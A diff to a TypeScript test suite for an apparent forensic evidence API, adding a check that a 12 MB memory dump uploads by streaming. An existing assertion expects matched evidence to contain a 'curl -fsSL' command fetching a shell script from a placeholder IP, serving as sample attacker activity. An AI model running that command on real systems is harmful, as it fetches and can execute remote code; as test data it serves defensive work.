@@ -95,6 +95,12 @@ describe("the evidence API", () => {
     expect(items[0]!.custody.map((c) => c.action)).toEqual(["added", "downloaded"]);
     expect(items[0]!.matches[0]).toMatchObject({ at: 3.125, line: expect.stringContaining("curl -fsSL http://203.0.113.50/x.sh") });
 
+    // Larger than the proxy would pass whole (10 MB): the upload route is streamed past it.
+    const large = randomBytes(12 * 1024 * 1024);
+    const big = await call("security", `/api/v1/cases/${reference}/evidence`, { method: "POST", headers: { "content-type": "application/octet-stream", "x-file-name": "memory-dump.bin" }, body: large });
+    expect(big.status).toBe(201);
+    expect(big.body.evidence).toMatchObject({ size: large.length, sha256: sha(large) });
+
     const verified = await call("security", `/api/v1/cases/${reference}/evidence/${id}/verify`, { method: "POST" });
     expect(verified).toMatchObject({ status: 200, body: { ok: true, expected: sha(cast) } });
   });
